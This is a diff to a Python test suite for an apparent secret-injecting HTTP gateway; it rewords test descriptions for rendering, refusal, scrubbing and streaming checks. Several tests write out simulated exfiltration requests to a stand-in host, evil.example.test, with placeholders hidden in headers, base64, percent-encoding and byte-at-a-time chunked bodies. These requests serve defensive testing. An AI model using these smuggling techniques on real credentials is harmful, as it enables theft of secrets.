@@ -235,34 +235,36 @@ def rendered(rig, api):
     """Each place, and what the server gets."""
     code, version, _ = split(curl("--http1.1", *bearer(), "https://api.example.test/v1/x"))
     got = api.last("/v1/x")
-    tap.ok(code == 200 and version == "1.1" and got.get("authorization") == f"Bearer {REAL}", "a bearer token", got.head)
-    tap.ok(got.get("accept-encoding") == "identity" and not got.get("range"), "whole answers, unencoded, are asked for", got.head)
+    tap.ok(code == 200 and version == "1.1" and got.get("authorization") == f"Bearer {REAL}", "a bearer token is rendered", got.head)
+    tap.ok(got.get("accept-encoding") == "identity" and not got.get("range"),
+           "a request with a secret asks for a whole, unencoded response", got.head)
     curl("--http1.1", *bearer(), "-H", "Range: bytes=0-9", "-H", "If-Range: x", "--compressed",
          "https://api.example.test/v1/range")
     got = api.last("/v1/range")
     tap.ok(not got.get("range") and not got.get("if-range") and got.get("accept-encoding") == "identity",
-           "whatever the client asks for", got.head)
+           "a request with a secret loses Range and Accept-Encoding of the client", got.head)
     curl("--http1.1", "-H", "Range: bytes=0-9", "--compressed", "https://api.example.test/v1/plain")
     got = api.last("/v1/plain")
-    tap.ok(got.get("range") and "gzip" in got.get("accept-encoding"), "(and nothing of that without a secret)", got.head)
+    tap.ok(got.get("range") and "gzip" in got.get("accept-encoding"),
+           "(a request without a secret keeps Range and Accept-Encoding)", got.head)
     code, version, _ = split(curl("--http2", *bearer(), "https://api.example.test/v1/from-h2"))
-    tap.ok(code == 200 and version == "2" and token_of(api.last("/v1/from-h2")) == REAL, "from HTTP/2 to HTTP/1.1")
+    tap.ok(code == 200 and version == "2" and token_of(api.last("/v1/from-h2")) == REAL, "a secret is rendered from HTTP/2 to HTTP/1.1")
     curl("-u", f"someone:{PH}", "https://api.example.test/v1/basic")
     pair = base64.b64decode(token_of(api.last("/v1/basic"))).decode()
-    tap.eq(pair, f"someone:{REAL}", "a password inside Basic")
+    tap.eq(pair, f"someone:{REAL}", "a password inside Basic is rendered")
     curl(f"https://api.example.test/q?a=1&key={PH}&b=2")
     want = f"/q?a=1&key={urllib.parse.quote(REAL, safe='')}&b=2"
-    tap.ok(api.last(want), "a query parameter, percent-encoded", [r.target for r in api.requests[-1:]])
+    tap.ok(api.last(want), "a query parameter is rendered percent-encoded", [r.target for r in api.requests[-1:]])
     curl("-b", f"a=b; sid={PH}", "https://api.example.test/c")
     got = api.last("/c")
-    tap.ok(got and got.get("cookie") == f"a=b; sid={REAL}", "a cookie", got and got.head)
+    tap.ok(got and got.get("cookie") == f"a=b; sid={REAL}", "a cookie is rendered", got and got.head)
     curl("-H", f"X-Api-Key: {PH}", "https://api.example.test/h")
-    tap.eq(api.last("/h").get("x-api-key"), REAL, "a header")
+    tap.eq(api.last("/h").get("x-api-key"), REAL, "a header is rendered")
     bot = list(rig.bot.requests)
     code, _, _ = split(curl(f"https://bot.example.test/bot{BOT_PH}/getMe"))
     new = rig.bot.requests[len(bot):]
     tap.ok(code == 200 and len(new) == 1 and new[0].target == f"/bot{urllib.parse.quote(BOT, safe='')}/getMe",
-           "a segment of the path, whose rule sees one segment", [r.target for r in new])
+           "a segment of the path is rendered, and its rule sees one segment", [r.target for r in new])
 
 
 def bodies(api):
@@ -274,29 +276,30 @@ def bodies(api):
             code, _, _ = split(curl(version, "-H", f"Content-Type: {ctype}", "-d", sent, "https://api.example.test/body/x"))
             got = api.last("/body/x")
             tap.ok(code == 200 and got.body.decode() == want and got.get("content-length") == str(len(want)),
-                   f"{what} in a body, its length right ({version})", got.body)
+                   f"a secret in a body of {what} is rendered with the right length ({version})", got.body)
     code, _, body = split(curl("--http1.1", "-H", "Transfer-Encoding: chunked", "-H", "Content-Type: application/json", "-d",
                                json.dumps({"k": PH, "c": CONTROL}), "https://api.example.test/body/x"))
     tap.ok(code == 200 and json.loads(api.last("/body/x").body) == {"k": REAL, "c": CONTROL} and
            json.loads(body) == {"k": "*" * len(json.dumps(REAL)[1:-1]), "c": CONTROL},
-           "one that comes in chunks, and back without the secret", body)
+           "a secret in a chunked body is rendered, and does not come back", body)
     big = os.path.join(D, "big")
     with open(big, "wb") as f:
         f.write(b"x" * 1500000 + PH.encode())
     code, _, _ = split(curl("--http1.1", "-H", "Expect:", "--data-binary", f"@{big}", "https://api.example.test/body/x"))
     got = api.last("/body/x")
-    tap.ok(code == 200 and got.body.endswith(PH.encode()), "one that is too long to be held goes as it is")
+    tap.ok(code == 200 and got.body.endswith(PH.encode()), "a body that is too long to be held is sent with the placeholder")
     for version in ("--http1.1", "--http2"):
         code, _, _ = split(curl(version, "-X", "POST", "-H", "Expect:", "-T", "-", "https://api.example.test/body/x", stdin=big))
         got = api.last("/body/x")
         tap.ok(code == 200 and len(got.body) == 1500000 + len(PH) and got.body.endswith(PH.encode()),
-               f"also when its length was not known ({version})", len(got.body))
+               f"a body that is too long, of unknown length, is sent with the placeholder ({version})", len(got.body))
     code, _, _ = split(curl("--http1.1", "-H", "Expect: 100-continue", "-H", "Content-Type: application/json", "-d",
                             json.dumps({"k": PH}), "https://api.example.test/body/x"))
     got = api.last("/body/x")
-    tap.ok(code == 200 and json.loads(got.body) == {"k": REAL} and not got.get("expect"), "a client that waits for leave", got.head)
+    tap.ok(code == 200 and json.loads(got.body) == {"k": REAL} and not got.get("expect"),
+           "a secret in a body after Expect: 100-continue is rendered", got.head)
     curl("-d", PH, "https://api.example.test/v1/nobody")
-    tap.eq(api.last("/v1/nobody").body.decode(), PH, "where none is bound to bodies they are not touched")
+    tap.eq(api.last("/v1/nobody").body.decode(), PH, "a body is not touched where no secret is bound to bodies")
 
 
 def many_bodies(rig, api):
@@ -327,7 +330,8 @@ def many_bodies(rig, api):
     wait_for("an end of it", is_still)
     grown = (rig.rss() - before) // 1024
     # What a sanitizer keeps of freed memory comes on top.
-    tap.ok(grown < (115 if slow_build() == 1 else 500), f"130 bodies of a megabyte that cannot go yet take {grown} MiB", len(rig.vault.held))
+    tap.ok(grown < (115 if slow_build() == 1 else 500),
+           f"130 bodies of a megabyte that wait for the vault take {grown} MiB", len(rig.vault.held))
     for c, _ in clients:
         c.s.shutdown(socket.SHUT_RDWR)
     for _, t in clients:
@@ -341,7 +345,7 @@ def many_bodies(rig, api):
     for _ in range(3):
         code, _, _ = split(curl("--http1.1", "-H", "Content-Type: application/json", "-d", json.dumps({"k": PH}),
                                 "https://api.example.test/body/after"))
-        tap.ok(code == 200 and json.loads(api.last("/body/after").body) == {"k": REAL}, "afterwards there is room again")
+        tap.ok(code == 200 and json.loads(api.last("/body/after").body) == {"k": REAL}, "a body is rendered after 130 others were given up")
 
 
 def refused(rig, api):
@@ -349,13 +353,14 @@ def refused(rig, api):
     evil = Client(rig, "evil.example.test")
     code, _, body = evil.ask(f"GET /steal HTTP/1.1\nHost: evil.example.test\nAuthorization: Bearer {PH}\n\n").answer()
     said = json.loads(body)
-    tap.ok(code == 403 and "'github'" in said["reason"] and "api.example.test" in said["reason"], "another host: 403 that says why",
-           body)
-    tap.ok(not has_any(body, REAL), "without the secret")
+    tap.ok(code == 403 and "'github'" in said["reason"] and "api.example.test" in said["reason"],
+           "a placeholder to another host is 403 with the reason", body)
+    tap.ok(not has_any(body, REAL), "the refusal of a placeholder does not have the secret")
     code, _, _ = evil.ask("GET /fine HTTP/1.1\nHost: evil.example.test\n\n").answer()
-    tap.ok(code == 200 and rig.evil.last("/fine") and not rig.evil.last("/steal"), "later requests of the connection are unharmed")
+    tap.ok(code == 200 and rig.evil.last("/fine") and not rig.evil.last("/steal"),
+           "later requests of a connection with a refused placeholder are served")
     alert = rig.events("alert", kind="secret", name="evil.example.test")[0]
-    tap.ok("github" in alert["text"], "an alert in the journal", alert)
+    tap.ok("github" in alert["text"], "a placeholder to another host raises an alert in the journal", alert)
     asked = len(rig.vault.requests)
     pair = base64.b64encode(f"u:{PH}".encode()).decode()
     for what, text in (("inside Basic", f"GET /s1 HTTP/1.1\nHost: evil.example.test\nAuthorization: Basic {pair}\n\n"),
@@ -364,15 +369,15 @@ def refused(rig, api):
                        ("in a cookie", f"GET /s4 HTTP/1.1\nHost: evil.example.test\nCookie: a={PH}\n\n"),
                        ("in any header", f"GET /s5 HTTP/1.1\nHost: evil.example.test\nX-Y: a{PH}b\n\n")):
         code, _, _ = evil.ask(text).answer()
-        tap.eq(code, 403, f"also {what}")
+        tap.eq(code, 403, f"a placeholder {what} to another host is 403")
     encoded = [base64.b64encode(b"." * i + PH.encode() + b"..").decode() for i in range(3)]
     for what, field in [(f"in base64, {i} behind", f"X-T: {x}") for i, x in enumerate(encoded)] + \
             [("in base64 for URLs", f"X-T: {base64.urlsafe_b64encode(PH.encode()).decode()}"), ("percent-encoded", f"X-T: %67{PH[1:]}")]:
         code, _, body = evil.ask(f"GET /s6 HTTP/1.1\nHost: evil.example.test\n{field}\n\n").answer()
-        tap.ok(code == 403 and b"'github'" in body, f"also {what}", body)
+        tap.ok(code == 403 and b"'github'" in body, f"a placeholder {what} to another host is 403 with the secret's name", body)
     tap.eq(evil.ask(f"GET /s7 HTTP/1.1\nHost: evil.example.test\nX-T: {base64.b64encode(CONTROL.encode()).decode()}\n\n").answer()[0], 200,
-           "(but not what is nobody's)")
-    tap.eq(len(rig.evil.requests), 2, "none of them reached the server")
+           "(base64 of another text is sent to another host)")
+    tap.eq(len(rig.evil.requests), 2, "no request with a placeholder reached the other host")
     for what, args in (("another path", (*bearer(), "https://api.example.test/v2/x")),
                        ("a path that only begins so", (*bearer(), "https://api.example.test/v10")),
                        ("another place", ("-H", f"X-Api-Key: {PH}", "https://api.example.test/v1/x")),
@@ -380,19 +385,19 @@ def refused(rig, api):
                        ("HTTP/2 to another host", ("--http2", *bearer(), "https://evil.example.test/h2")),
                        ("a rule that names another secret", (*bearer(), "https://rule.example.test/"))):
         code, _, body = split(curl(*args))
-        tap.ok(code == 403, f"{what}: 403", body)
-    tap.eq(len(rig.vault.requests), asked, "and for none of them the vault was asked")
+        tap.ok(code == 403, f"a placeholder with {what} is 403", body)
+    tap.eq(len(rig.vault.requests), asked, "the vault was asked for no refused placeholder")
     rig.events("alert", kind="secret", name="api.example.test")
     texts = [e["text"] for e in rig.lines() if e["ev"] == "alert" and e.get("name") == "api.example.test"]
     tap.ok(any("without TLS" in x for x in texts) and any("x-api-key" in x for x in texts),
-           "two alerts for one host that say different things are two", texts)
+           "two different alerts for one host are both written", texts)
     two = Client(rig, "api.example.test")
     two.ask(f"GET /v1/p1 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
             f"GET /v2/p2 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
             f"GET /v1/p3 HTTP/1.1\nHost: evil.example.test\nAuthorization: Bearer {PH}\n\n")
     codes = [two.answer()[0] for _ in range(3)]
     tap.eq(codes, [200, 403, 421], "pipelined requests are decided one by one")
-    tap.ok(token_of(api.last("/v1/p1")) == REAL and not api.last("/v2/p2"), "and only the first was rendered")
+    tap.ok(token_of(api.last("/v1/p1")) == REAL and not api.last("/v2/p2"), "only the allowed one of three pipelined requests is rendered")
 
 
 def alerts(rig, host):
@@ -408,14 +413,16 @@ def refused_bodies(rig, api):
                            ("in base64", ("-d", base64.b64encode(b"xy" + js.encode()).decode())),
                            ("percent-encoded", ("-d", f"t=%67{PH[1:]}"))):
             code, _, body = split(curl(version, *args, "https://evil.example.test/b"))
-            tap.ok(code == 403 and b"'github'" in body and b"api.example.test" in body, f"{what} to another host: 403 ({version})", body)
-    tap.eq(len(rig.evil.requests), before, "of all of these nothing was sent")
-    tap.ok(any("'github'" in x and "evil.example.test" in x for x in alerts(rig, "evil.example.test")), "an alert in the journal",
+            tap.ok(code == 403 and b"'github'" in body and b"api.example.test" in body,
+                   f"a placeholder in a body ({what}) to another host is 403 ({version})", body)
+    tap.eq(len(rig.evil.requests), before, "no body with a placeholder was sent to another host")
+    tap.ok(any("'github'" in x and "evil.example.test" in x for x in alerts(rig, "evil.example.test")),
+           "a placeholder in a body to another host raises an alert in the journal",
            alerts(rig, "evil.example.test"))
     evil = Client(rig, "evil.example.test")
     head = f"POST /b2 HTTP/1.1\nHost: evil.example.test\nContent-Length: {len(form)}\n\n"
     codes = [evil.ask(head + form).answer()[0], evil.ask("GET /after HTTP/1.1\nHost: evil.example.test\n\n").answer()[0]]
-    tap.eq(codes, [403, 200], "later requests of the connection are unharmed")
+    tap.eq(codes, [403, 200], "later requests of a connection with a refused body are served")
     evil.s.close()
     big = os.path.join(D, "upload")
     with open(big, "wb") as f:
@@ -424,32 +431,36 @@ def refused_bodies(rig, api):
     with open(control, "wb") as f:
         f.write(b"x" * 300000 + CONTROL.encode() + b"y" * 300000)
     for version in ("--http1.1", "--http2"):
-        for what, args in (("a long one", ("-H", "Expect:", "--data-binary", f"@{big}")), ("of unknown length", ("-H", "Expect:", "-T", "-"))):
+        for what, args in (("long", ("-H", "Expect:", "--data-binary", f"@{big}")), ("of unknown length", ("-H", "Expect:", "-T", "-"))):
             n = len(alerts(rig, "evil.example.test"))
             r = curl(version, "-X", "POST", *args, "https://evil.example.test/long", stdin=big)
             got = [q for q in rig.evil.requests if q.target == "/long"]
             tap.ok(b"'github'" in r.stdout and b"\n403" in r.stdout and not any(PH.encode() in (q.body or b"") for q in got),
-                   f"{what}: broken off, and it is said why ({version})", r.stdout[-300:], r.stderr[-300:], n)
+                   f"a body with a placeholder, {what}, is broken off with the reason ({version})", r.stdout[-300:], r.stderr[-300:], n)
             code, _, _ = split(curl(version, "-X", "POST", *[a.replace(big, control) for a in args], "https://evil.example.test/control",
                                     stdin=control))
-            tap.ok(code == 200 and rig.evil.last("/control").body.count(CONTROL.encode()) == 1, f"(another of its length goes) ({version})")
+            tap.ok(code == 200 and rig.evil.last("/control").body.count(CONTROL.encode()) == 1,
+                   f"(another body of the same length, {what}, is sent) ({version})")
     piece = Client(rig, "evil.example.test")
     piece.ask("POST /pieces HTTP/1.1\nHost: evil.example.test\nTransfer-Encoding: chunked\n\n")
     for ch in f"t={PH}":
         piece.s.sendall(f"1\r\n{ch}\r\n".encode())
         time.sleep(0.001)
-    tap.eq(piece.answer()[0], 403, "a byte at a time")
+    tap.eq(piece.answer()[0], 403, "a placeholder in a body that comes a byte at a time is 403")
     piece.s.close()
-    tap.ok(not any(PH.encode() in (q.body or b"") for q in rig.evil.requests), "no server had a whole one")
+    tap.ok(not any(PH.encode() in (q.body or b"") for q in rig.evil.requests), "no other host received a whole placeholder in a body")
     n = len(alerts(rig, "api.example.test"))
     for version in ("--http1.1", "--http2"):
         code, _, _ = split(curl(version, "-d", form, "https://api.example.test/v1/quote"))
-        tap.ok(code == 200 and api.last("/v1/quote").body.decode() == form, f"where it is bound, an agent may quote it ({version})")
-    tap.eq(len(alerts(rig, "api.example.test")), n, "and nobody is alarmed")
+        tap.ok(code == 200 and api.last("/v1/quote").body.decode() == form,
+               f"a placeholder in a body may be sent to a host that its secret is bound to ({version})")
+    tap.eq(len(alerts(rig, "api.example.test")), n, "a placeholder in a body to its own host raises no alert")
     for version in ("--http1.1", "--http2", "--http1.1"):
         code, _, _ = split(curl(version, "-d", f"env={BOT_PH}", "https://api.example.test/v1/env"))
-        tap.ok(code == 200 and BOT_PH in api.last("/v1/env").body.decode(), f"also that of another secret, where one is bound ({version})")
-    tap.eq(len([x for x in alerts(rig, "api.example.test") if "'bot'" in x]), 1, "of which there is one alert")
+        tap.ok(code == 200 and BOT_PH in api.last("/v1/env").body.decode(),
+               f"the placeholder of another secret may be sent in a body to a bound host ({version})")
+    tap.eq(len([x for x in alerts(rig, "api.example.test") if "'bot'" in x]), 1,
+           "the placeholder of another secret to a bound host raises one alert")
 
 
 def second_paths(rig, api):
@@ -467,11 +478,14 @@ def second_paths(rig, api):
             ("Destination", "/v1", "/v10"), ("X-Amz-Copy-Source", "v1/b", "body/b"), ("x-ms-rename-source", "/v1/b", "/"))):
         path = f"/v1/copy{i}"
         code, asked, body = copy(path + "in", field, inside)
-        tap.ok(code == 200 and asked == 1 and token_of(api.last(path + "in")) == REAL, f"{field}: {inside}, which it is bound to", body)
+        tap.ok(code == 200 and asked == 1 and token_of(api.last(path + "in")) == REAL,
+               f"{field}: {inside}: a second path that the secret is bound to is rendered", body)
         code, asked, body = copy(path + "out", field, outside)
-        tap.ok(code == 403 and asked == 0 and b"second path" in body and not api.last(path + "out"), f"{field}: {outside}: 403", body)
+        tap.ok(code == 403 and asked == 0 and b"second path" in body and not api.last(path + "out"),
+               f"{field}: {outside}: a second path that the secret is not bound to is 403", body)
         code, asked, body = copy(path + "own", field, outside, "own")
-        tap.ok(code == 200 and asked == 0 and api.last(path + "own"), "(which the policy allows without the secret)", body)
+        tap.ok(code == 200 and asked == 0 and api.last(path + "own"),
+               f"{field}: {outside}: (a second path is allowed without the secret)", body)
 
 
 def new_policy(rig, api):
@@ -483,20 +497,22 @@ def new_policy(rig, api):
     wait_for("the question", lambda: rig.vault.held)
     rig.policy(POLICY + "    - {domain: late.example.test, port: 443}\n")
     code, _, body = c.answer()
-    tap.ok(code == 503 and b"policy has changed" in body, "a policy that changes while the vault is asked: 503, ask again", body)
+    tap.ok(code == 503 and b"policy has changed" in body, "a policy that changes while the vault is asked makes the request 503", body)
     rig.vault.hold = False
     rig.vault.sock.send(rig.vault.held.pop())
     code, _, body = c.ask("GET /v1/unchanged HTTP/1.1\nHost: api.example.test\n\n").answer()
-    tap.ok(code == 200 and not api.last("/v1/changed"), "nothing was sent, the late answer harms nobody", body)
+    tap.ok(code == 200 and not api.last("/v1/changed"),
+           "a request is not sent after a policy change, and a late answer of the vault harms no other", body)
     code, _, body = c.ask(text).answer()
-    tap.ok(code == 200 and token_of(api.last("/v1/changed")) == REAL, "asked again, it goes", body)
+    tap.ok(code == 200 and token_of(api.last("/v1/changed")) == REAL, "a request that is repeated after a policy change is sent", body)
     sent = json.dumps({"k": PH})
     head = f"POST /body/x HTTP/1.1\nHost: api.example.test\nExpect: 100-continue\nContent-Length: {len(sent)}\n\n"
     before = len(api.requests)
-    tap.like(c.ask(head).head(), " 100 ", "a body that is waited for")
+    tap.like(c.ask(head).head(), " 100 ", "a body is asked for with 100 Continue")
     rig.policy(POLICY)
     code, _, body = c.answer()
-    tap.ok(code == 503 and b"policy has changed" in body and len(api.requests) == before, "also then", body)
+    tap.ok(code == 503 and b"policy has changed" in body and len(api.requests) == before,
+           "a policy that changes while a body is waited for makes the request 503", body)
     api.go.clear()
     c = Client(rig, "api.example.test")
     c.ask(f"GET /v1/events HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n").head()
@@ -508,7 +524,7 @@ def new_policy(rig, api):
     rest = b""
     while not rest.endswith(b"\n\n"):
         rest += c.chunks()
-    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "(an answer that is on its way goes on)")
+    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "(a response that has begun goes on over a policy change)")
     c.s.close()
 
 
@@ -517,24 +533,25 @@ def unverified(rig):
         asked = len(rig.vault.requests)
         code, _, body = split(curl(*bearer(), f"https://{host}/x"))
         tap.ok(code == 502 and b"certificate" in body and len(rig.vault.requests) == asked,
-               f"{host}: a server that is not verified gets nothing, and the vault is not asked", body)
+               f"{host}: a server that is not verified gets no secret, and the vault is not asked", body)
         lines_ = rig.lines()
         tap.ok(any(e["ev"] == "request" and e.get("host") == host for e in lines_) and
-               not [e for e in lines_ if e["ev"] == "secret" and e.get("host") == host], f"{host}: which is no use of the secret")
+               not [e for e in lines_ if e["ev"] == "secret" and e.get("host") == host],
+               f"{host}: a server that is not verified is no use of the secret in the journal")
 
 
 def only(rig):
     def ask(*args):
         return split(curl(*args, "https://only.example.test/x"))[0]
-    tap.eq(ask(*bearer()), 200, "credentials: only lets the gateway's through")
-    tap.eq(token_of(rig.only.last("/x")), REAL, "rendered")
-    tap.eq(ask("-u", f"git:{PH}"), 200, "as a password too")
-    tap.eq(ask("-H", "Authorization: Bearer ghp_somebodyelse"), 403, "but nobody else's")
-    tap.eq(ask(*bearer(), "-H", "X-Api-Key: mine"), 403, "nor one beside it")
-    tap.eq(ask("-u", f"ghp_{word(36)}:{PH}"), 403, "nor one in front of it")
-    tap.eq(ask(), 200, "(and requests without any)")
+    tap.eq(ask(*bearer()), 200, "credentials: only lets a bound secret through")
+    tap.eq(token_of(rig.only.last("/x")), REAL, "credentials: only renders the secret")
+    tap.eq(ask("-u", f"git:{PH}"), 200, "credentials: only lets a bound secret through as a password")
+    tap.eq(ask("-H", "Authorization: Bearer ghp_somebodyelse"), 403, "credentials: only refuses another token")
+    tap.eq(ask(*bearer(), "-H", "X-Api-Key: mine"), 403, "credentials: only refuses another credential beside the secret")
+    tap.eq(ask("-u", f"ghp_{word(36)}:{PH}"), 403, "credentials: only refuses a token as the user name of the secret")
+    tap.eq(ask(), 200, "credentials: only lets requests without credentials through")
     code, _, body = split(curl("-H", "X-Company-Token: mine", "https://only.example.test/x"))
-    tap.ok(code == 403 and b"the header x-company-token" in body.lower(), "the header is named as it was sent", body)
+    tap.ok(code == 403 and b"the header x-company-token" in body.lower(), "credentials: only names the refused header as it was sent", body)
 
 
 THEIRS = "ghp_" + word(36)
@@ -571,21 +588,22 @@ def only_elsewhere(rig):
             before = len(rig.only.requests)
             code, _, body = split(curl(version, *args, f"https://only.example.test{path}"))
             tap.ok(code == want and len(rig.only.requests) - before == (want == 200) and (want == 200 or b"credentials" in body),
-                   f"credentials: only: {what}: {want} ({version})", body)
+                   f"credentials: only: {what} is {want} ({version})", body)
         for path, want in ((f"/bot{THEIR_BOT}/getMe", 403), (f"/bot{urllib.parse.quote(THEIR_BOT, safe='')}/getMe", 403),
                            ("/botsomething-else/getMe", 403), (f"/bot{BOT_PH}/getMe", 200), (f"/file/bot{BOT_PH}/a/b", 200), ("/", 200)):
             code, _, body = split(curl(version, f"https://onlybot.example.test{path}"))
-            tap.ok(code == want, f"credentials: only: {path[:12]}, where a secret stands in paths: {want} ({version})", body)
+            tap.ok(code == want, f"credentials: only: {path[:12]}, where a secret is bound to paths, is {want} ({version})", body)
         code, _, _ = split(curl(version, *js, "-d", json.dumps({"token": BOT_PH}), f"https://onlybot.example.test/bot{BOT_PH}/set"))
-        tap.ok(code == 200 and json.loads(rig.only.requests[-1].body) == {"token": BOT}, f"(ours in path and body, rendered) ({version})")
+        tap.ok(code == 200 and json.loads(rig.only.requests[-1].body) == {"token": BOT},
+               f"credentials: only renders a secret in path and body ({version})")
     too_long = "credentials: only: a body over 1 MiB is not looked into, so it is not sent"
     code, _, body = Client(rig, "only.example.test").ask("POST /big HTTP/1.1\nHost: only.example.test\nContent-Length: 1048577\n\n").answer()
-    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: its length is said", body)
+    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: with Content-Length", body)
     c = Client(rig, "only.example.test").ask("POST /big HTTP/1.1\nHost: only.example.test\nTransfer-Encoding: chunked\n\n")
     for _ in range(16):
         c.s.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
     code, _, body = c.answer()
-    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: its length is not said", body)
+    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: chunked", body)
     big = os.path.join(D, "big")
     r = curl("--http2", "-X", "POST", "-T", "-", "https://only.example.test/big", stdin=big)
     tap.ok(b"\n413" in r.stdout and b"1 MiB" in r.stdout and not rig.only.last("/big"), f"{too_long}: HTTP/2", r.stdout[-300:])
@@ -593,9 +611,9 @@ def only_elsewhere(rig):
 
 def clean(data, what, expect=CONTROL):
     left = has_any(data, REAL)
-    tap.ok(not left, f"{what}: nothing of the secret comes back", left)
+    tap.ok(not left, f"{what}: the secret does not come back", left)
     if expect:
-        tap.ok(expect.encode() in data, f"{what}: what is not the secret does", data[:300])
+        tap.ok(expect.encode() in data, f"{what}: other text comes back", data[:300])
 
 
 def scrubbed(rig, api):
@@ -603,29 +621,32 @@ def scrubbed(rig, api):
         r = curl(version, "-i", *bearer(), "https://api.example.test/v1/mirror")
         clean(r.stdout, f"eleven encodings and the head ({version})")
         tap.ok(r.stdout.count(PH.encode()) >= 2 and base64.b64encode(CONTROL.encode()) in r.stdout,
-               f"the placeholder stands where the secret stood ({version})", r.stdout)
+               f"the placeholder replaces the secret in a response ({version})", r.stdout)
         r = curl(version, *bearer(), "https://api.example.test/v1/trickle")
         clean(r.stdout, f"a byte at a time ({version})")
-        tap.ok(f"<{PH}|{CONTROL}>".encode() in r.stdout, f"and otherwise as it was ({version})", r.stdout)
+        tap.ok(f"<{PH}|{CONTROL}>".encode() in r.stdout,
+               f"the placeholder replaces the secret in a response a byte at a time ({version})", r.stdout)
         r = curl(version, *bearer(), "https://api.example.test/v1/large")
         clean(r.stdout, f"300 times in half a megabyte ({version})", None)
-        tap.ok(split(r)[2] == api.large.replace(REAL.encode(), PH.encode()), f"and not another byte is changed ({version})")
+        tap.ok(split(r)[2] == api.large.replace(REAL.encode(), PH.encode()), f"no other byte of a large response is changed ({version})")
         r = curl(version, *bearer(), "https://api.example.test/v1/lines")
         joined = re.sub(rb"\\r|\\n|[\r\n]", b"", r.stdout)
         clean(joined, f"base64 in lines ({version})", None)
         clean(urllib.parse.unquote_to_bytes(r.stdout), f"percent-encoded in part ({version})")
         tap.ok(joined.count(base64.b64encode(CONTROL[:39].encode())) >= 18 and len(r.stdout.split(b"\n|\n")) == 116,
-               f"what is not the secret comes in lines as it was ({version})", joined[-300:])
+               f"other text in lines comes back unchanged ({version})", joined[-300:])
         for path in ("/v1/304", "/v1/204"):
             r = curl(version, "-i", *bearer(), f"https://api.example.test{path}")
-            tap.ok(path[-3:].encode() in r.stdout and PH.encode() in r.stdout, f"{path} ({version})", r.stdout)
+            tap.ok(path[-3:].encode() in r.stdout and PH.encode() in r.stdout,
+                   f"{path}: the head has the placeholder ({version})", r.stdout)
             clean(r.stdout, f"{path} ({version})", None)
         r = curl(version, "-I", *bearer(), "https://api.example.test/v1/x")
-        tap.eq(split(r)[0], 200, f"HEAD ({version})")
+        tap.eq(split(r)[0], 200, f"HEAD with a secret is 200 ({version})")
         code, _, body = split(curl(version, *bearer(), "https://api.example.test/v1/gzip"))
-        tap.ok(code == 502 and b"encoded" in body, f"what is encoded all the same is refused ({version})", body)
+        tap.ok(code == 502 and b"encoded" in body, f"an encoded response to a request with a secret is 502 ({version})", body)
         code, _, body = split(curl(version, *bearer("other"), "https://api.example.test/v1/gzip"))
-        tap.ok(code == 200 and gzip.decompress(body) == b"other", f"(but not without a secret) ({version})", body)
+        tap.ok(code == 200 and gzip.decompress(body) == b"other",
+               f"(an encoded response to a request without a secret is passed on) ({version})", body)
 
 
 def streaming(rig, api):
@@ -643,7 +664,7 @@ def streaming(rig, api):
         if not piece:
             break
         rest += piece
-    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "and the next")
+    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "the event after the secret is passed on")
     c.s.close()
 
 
@@ -653,7 +674,7 @@ def trailers(rig):
     while int(c.f.readline(), 16) > 0:
         c.f.readline()
     fields = [c.f.readline().decode().strip() for _ in range(2)]
-    tap.eq(sorted(fields), [f"x-c: {CONTROL}", f"x-t: {PH}"], "trailers")
+    tap.eq(sorted(fields), [f"x-c: {CONTROL}", f"x-t: {PH}"], "trailers have the placeholder for the secret")
     c.s.close()
 
 
@@ -664,29 +685,30 @@ def upgrade(rig, api):
                  f"Sec-WebSocket-Extensions: permessage-deflate\nAuthorization: Bearer {PH}\n\n").head()
     got = api.last("/v1/ws")
     tap.ok(" 101 " in head and token_of(got) == REAL and not got.get("sec-websocket-extensions"),
-           "a websocket's handshake, without compression", head)
-    tap.eq([ht.ws_read(c.f), ht.ws_read(c.f)], [PH, CONTROL + "ghp"], "and what its server says of the secret")
+           "a websocket's handshake is rendered, without compression", head)
+    tap.eq([ht.ws_read(c.f), ht.ws_read(c.f)], [PH, CONTROL + "ghp"], "the frames of a websocket have the placeholder for the secret")
     c.s.sendall(ht.ws_frame(b"bye"))
     c.s.close()
     code, _, _ = Client(rig, "evil.example.test").ask(
         f"GET /ws HTTP/1.1\nHost: evil.example.test\nUpgrade: websocket\nConnection: Upgrade\n"
         f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nAuthorization: Bearer {PH}\n\n").answer()
-    tap.eq(code, 403, "to another host: 403")
+    tap.eq(code, 403, "a websocket with a placeholder to another host is 403")
 
 
 def http2(rig):
     code, version, body = split(curl("--http2", *bearer(), f"https://h2.example.test/x?key={PH}"))
-    tap.ok(code == 200 and version == "2", "HTTP/2 on both sides", body)
+    tap.ok(code == 200 and version == "2", "a request by HTTP/2 on both sides is 200", body)
     clean(body, "HTTP/2 on both sides", None)
     headers = json.loads(body)["headers"]
     hidden = "*" * len(json.dumps(REAL)[1:-1])  # another length than the placeholder's, for it has a quote
-    tap.ok(headers["authorization"] == f"Bearer {hidden}" and headers[":path"].startswith("/x?key=*"), "where the server had both",
-           headers)
+    tap.ok(headers["authorization"] == f"Bearer {hidden}" and headers[":path"].startswith("/x?key=*"),
+           "an HTTP/2 server received the secret in header and query", headers)
     procs = [subprocess.Popen(["curl", "-sS", "--http2", "--cacert", TRUST, "-Z", "--no-progress-meter", "--max-time", str(int(PATIENCE))] +
                               list(bearer()) + [f"https://h2.example.test/p{i}" for i in range(20)],
                               stdout=subprocess.PIPE) for _ in range(3)]
     outs = [p.communicate(timeout=PATIENCE * 2)[0] for p in procs]
-    tap.ok(all(o.count(hidden.encode()) == 20 and not has_any(o, REAL) for o in outs), "60 of them at once", outs[0][:300])
